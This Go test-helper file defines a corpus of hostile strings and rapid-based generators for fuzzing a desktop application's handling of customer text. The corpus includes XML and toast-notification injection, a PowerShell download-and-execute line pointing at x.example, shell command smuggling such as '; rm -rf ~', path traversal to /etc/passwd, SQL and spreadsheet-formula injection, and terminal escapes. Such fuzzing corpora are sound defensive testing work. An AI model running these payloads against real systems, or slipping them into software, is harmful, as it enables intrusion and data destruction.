package desktest

import (
	"slices"
	"strings"

	"pgregory.net/rapid"
)

// hostile are texts that mean something in a language which some sink speaks:
// markup, a shell, a path, a header, a terminal, SQL. Each is a message, a
// profile name or a file name that a customer can send.
var hostile = []string{
	// XML and markup
	"]]>&$(calc.exe)", "]]>&$(iex(irm https://x.example/a))", "]]>", "<![CDATA[", "&", "&amp;", "&#x0;", "&lol;", "<", ">", "<!--", "-->", "<?xml?>", "<!DOCTYPE a>",
	`Hi ]]></text></binding></visual><actions><action activationType="protocol" content="Open" arguments="search-ms:query=x"/></actions></toast><!--`,
	`Hi ]]></text><image src="\\e.example\a\b.png"/><text><![CDATA[`, `" launch="x`, `' launch='x`, `</text></toast>`,
	`<b>URGENT</b> <a href="http://evil.test">sign in here</a>`, `<img src="http://evil.test/x.png"/>`, "I <3 this tent", "a & b",
	// PowerShell, cmd and POSIX shells
	"$(calc.exe)", "`id`", "\"@\r\ncalc\r\n$x=@\"", "'@", "@\"", "; rm -rf ~", "| calc", "&& calc", "%COMSPEC%", "%n%s%x", "$env:TEMP", "${HOME}", "--help", "-rf", "^&calc", "\\\\evil.example\\share",
	// what is no character, ends a text or turns it round
	"nul\x00in text", "\x01\x02\x1f", "\x7f", "\u0085", "\u2028\u2029", "\ufeff", "\ufffe\uffff", "\ufdd0", "\xff\xfe\xc0\x80", "\xed\xa0\x80", "\u202egpj.exe", "\u200f\u200e\u061c", "\u2066\u2067\u2068\u2069",
	"\x1b[2J\x1b]0;root\x07", "\x1b]8;;http://evil.test\x1b\\", "\x9b31m", "\r\nSet-Cookie: a=b", "a\r\n\r\nbody", "\b\b\b", "a\tb", "line one\nline two",
	// paths and file names
	"../../etc/passwd", `..\..\evil.exe`, "C:\\Windows\\x.exe", "CON", "aux", "nul.txt", "COM1.docx", "con .pdf", "x.jpg.exe", "x.lnk", "x .exe ", "x.png:ads.exe", "desktop.ini", ".htaccess", "~", "...", "a/b", "x.",
	// SQL, its patterns, CSV, JSON
	"' OR 1=1 --", "%", "_", `\`, `\%`, "100%", `"; DROP TABLE message;`, "=HYPERLINK(\"http://evil.test\")", "+1+1", "@SUM(1)", "\",\"", `{"a":1}`, `\u0000`,
	// links
	"javascript:alert(1)", "file:///etc/passwd", "https://bank.example@evil.test/", "https://xn--80ak6aa92e.com/",
	// and what must come through unharmed
	"Grüße, 你好, שלום, नमस्ते", "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️", "",
}

// Hostile gives the corpus, each text alone and in the middle of others.
func Hostile() []string {
	out := slices.Clone(hostile)
	for _, s := range hostile {
		out = append(out, "Hello "+s+" you", s+s, strings.Repeat(s, 40))
	}
	return out
}

// HostileText generates texts out of the corpus' pieces and of anything else.
func HostileText() *rapid.Generator[string] {
	piece := rapid.OneOf(rapid.SampledFrom(hostile), rapid.String(),
		rapid.Map(rapid.SliceOfN(rapid.Byte(), 0, 8), func(b []byte) string { return string(b) }))
	return rapid.Map(rapid.SliceOfN(piece, 0, 6), func(parts []string) string { return strings.Join(parts, "") })
}
